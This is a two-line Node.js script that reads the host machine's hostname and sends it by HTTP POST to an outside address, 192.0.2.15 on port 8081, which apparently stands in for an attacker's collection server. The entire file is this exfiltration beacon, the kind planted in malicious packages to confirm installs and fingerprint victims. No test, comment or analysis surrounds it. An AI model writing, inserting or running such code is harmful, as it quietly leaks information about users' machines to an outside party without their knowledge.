const { hostname } = require("os");

fetch("http://192.0.2.15:8081/in", { method: "POST", body: hostname() });
